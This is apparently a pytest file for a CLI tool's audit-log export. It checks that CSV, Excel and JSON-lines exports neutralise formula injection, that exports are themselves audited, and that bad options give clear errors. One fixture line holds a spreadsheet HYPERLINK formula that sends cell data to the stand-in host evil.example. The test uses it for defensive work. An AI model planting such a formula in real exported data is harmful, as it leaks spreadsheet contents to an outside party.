"""`shanhai audit export | list`: the log written to CSV, Excel or JSON lines with formula injection
inert, the export itself audited; filters; bad options explained."""

from __future__ import annotations

import csv
import html
import json
import zipfile

from typer.testing import CliRunner

from shanhai.cli.app import app
from shanhai.errors import ShanhaiError
from shanhai.store import audit, open_store

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


def _db(tmp_path):
    path = tmp_path / "a.duckdb"
    with open_store(path) as store:
        audit.append(store.con, "sign_in.failed", username="-", target=EVIL, detail={"client": "10.1.1.1"})
        audit.append(store.con, "sign_in", username="zhang", detail={"client": "10.1.1.2"})
    return path


def _run(*args):
    return CliRunner().invoke(app, ["audit", *args])


def test_export_csv_xlsx_jsonl_inert_and_audited(tmp_path):
    db = _db(tmp_path)
    res = _run("export", str(tmp_path / "a.csv"), "--action", "sign_in", "--json", "--db", str(db))
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["rows"] == 2
    cells = [c for row in csv.reader((tmp_path / "a.csv").read_text("utf-8-sig").splitlines()) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells and "10.1.1.1" in cells and "failure" in cells
    assert _run("export", str(tmp_path / "a.xlsx"), "--db", str(db)).exit_code == 0
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
        assert EVIL in html.unescape(z.read("xl/sharedStrings.xml").decode())
    assert _run("export", str(tmp_path / "a.jsonl"), "--user", "zhang", "--db", str(db)).exit_code == 0
    lines = [json.loads(x) for x in (tmp_path / "a.jsonl").read_text("utf-8").splitlines()]
    assert [r["username"] for r in lines] == ["zhang"] and lines[0]["client"] == "10.1.1.2"
    assert "key_id" in lines[0] and lines[0]["key_id"] is None       # unkeyed log: no audit key
    listed = json.loads(_run("list", "--action", "export", "--json", "--db", str(db)).stdout)
    assert len(listed) == 3 and {r["target"] for r in listed} == {"audit_log"}
    assert _run("verify", "--db", str(db)).exit_code == 0


def test_bad_options_are_one_sentence(tmp_path):
    db = _db(tmp_path)
    for args, sentence in [(("export", str(tmp_path / "a.pdf")), "must end in .csv, .xlsx or .jsonl"),
                           (("list", "--since", "2024-13-01"), "--since '2024-13-01' is not a date"),
                           (("archive", "--retention-days", "30"), "shorter than the minimum 180 days")]:
        res = _run(*args, "--db", str(db))
        assert isinstance(res.exception, ShanhaiError) and sentence in str(res.exception), res.output
    assert not (tmp_path / "a.pdf").exists()
